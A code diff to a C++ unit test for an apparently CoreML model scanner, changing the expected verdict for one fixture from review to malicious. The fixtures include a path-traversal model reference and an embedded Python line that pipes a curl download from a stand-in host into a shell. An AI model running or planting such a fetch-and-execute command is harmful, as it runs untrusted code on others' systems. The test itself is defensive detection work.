@@ -40,7 +40,7 @@ TEST(Coreml, classes_and_models_from_elsewhere_are_told) {
       {model(message(202, message(1, varint(1, 4) + message(555, message(10, "Inner"))))), ScanVerdict::review},
       {model(message(556, message(1, message(1, message(1, "other.mlmodel"))))), ScanVerdict::review},
       {model(message(556, message(1, message(1, message(1, "../../other.mlmodel"))))), ScanVerdict::malicious},
-      {model("", "import os; os.system('curl http://x | sh')"), ScanVerdict::review},
+      {model("", "import os; os.system('curl http://x | sh')"), ScanVerdict::malicious},
       {model("\xa2\x1f\x09x"), ScanVerdict::malformed},
   };
   for (const auto& c : cases) {
